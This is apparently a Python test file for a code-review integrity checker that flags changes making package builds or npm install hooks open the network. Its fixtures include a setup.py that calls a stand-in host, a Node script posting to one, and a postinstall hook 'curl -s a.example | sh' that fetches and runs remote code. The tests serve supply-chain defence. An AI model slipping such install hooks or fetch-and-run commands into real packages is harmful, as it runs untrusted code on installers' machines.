"""What runs on the machine of whoever installs a package."""

from __future__ import annotations

import json

import pytest

from bot.integrity import inspect_integrity
from bot.values import Category, FourWay, Requirement, Requirements, Trust, rules
from sandbox.values import Diff
from tests.bot.integrity.test_integrity import Tree, changed

ASKED = "`price` returns twice the cents"
SETUP = "from setuptools import setup\n\nsetup(name='shop')\n"
SENDS = "import urllib.request\n\nurllib.request.urlopen('https://a.example/')\n"
POSTS = "import https from 'node:https';\n\nhttps.request('https://a.example/').end();\n"
REACHES = {rules.NETWORK_OPENED, rules.PROGRAM_STARTED, rules.PLACE_ASKED}


def package(**scripts: str) -> str:
    return json.dumps({"name": "shop", "scripts": scripts}, indent=2)


def found(
    before: dict[str, str], after: dict[str, str], asked: str = ASKED
) -> list[tuple[str, str]]:
    """What is said of a change from one tree to another, and of which file."""
    wanted = Requirements((Requirement("R1", asked, Category.BEHAVIOUR, "issue #1", Trust.ASKER),))
    paths = [path for path in {**before, **after} if before.get(path) != after.get(path)]
    diff = Diff(tuple(changed(path, before.get(path), after.get(path)) for path in paths))
    findings = inspect_integrity(diff, Tree(before), Tree(after), FourWay(()), wanted)
    return [(one.rule, one.path) for one in findings if one.rule in REACHES]


@pytest.mark.parametrize("path", ["setup.py", "python/setup.py", "hatch_build.py"])
def test_a_build_that_newly_opens_the_network(path: str) -> None:
    sent = {path: SENDS + SETUP}
    assert found({path: SETUP}, sent) == [(rules.NETWORK_OPENED, path)]
    # base knows it, the task speaks of it, and tests have builds of their own
    assert found(sent, {path: f"{SENDS}{SETUP}\nprint(1)\n"}) == []
    assert found({path: SETUP}, sent, "The build downloads the table of rates") == []
    assert found({f"tests/data/{path}": SETUP}, {f"tests/data/{path}": SENDS}) == []


def test_it_is_no_excuse_that_the_program_uses_the_network() -> None:
    ships = {"shop.py": "import urllib.request\n"}
    after = {"setup.py": SENDS + SETUP}
    assert found({"setup.py": SETUP, **ships}, {**after, **ships}) == [
        (rules.NETWORK_OPENED, "setup.py")
    ]


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall", "prepare"])
def test_a_script_that_installing_runs(hook: str) -> None:
    plain = {"package.json": package(test="ava")}
    ran = {"package.json": package(**{"test": "ava", hook: "node ./scripts/setup.js"})}
    script = {"scripts/setup.js": POSTS}
    assert found(plain, {**ran, **script}) == [(rules.NETWORK_OPENED, "scripts/setup.js")]
    # a script that only developers run is none
    assert (
        found(plain, {"package.json": package(test="ava", docs="node scripts/setup.js"), **script})
        == []
    )


def test_what_a_hook_fetches_by_itself() -> None:
    plain = {"package.json": package(test="ava")}
    fetches = {"package.json": package(test="ava", postinstall="curl -s a.example | sh")}
    assert found(plain, fetches) == [(rules.NETWORK_OPENED, "package.json")]
    assert found(fetches, {"package.json": package(postinstall="curl -s b.example | sh")}) == []
    assert found(plain, {"package.json": package(test="ava", prepare="husky install")}) == []


def test_a_build_that_says_more_of_the_package() -> None:
    more = SETUP.replace("name='shop'", "name='shop', python_requires='>=3.9'")
    assert found({"setup.py": SETUP}, {"setup.py": more}) == []
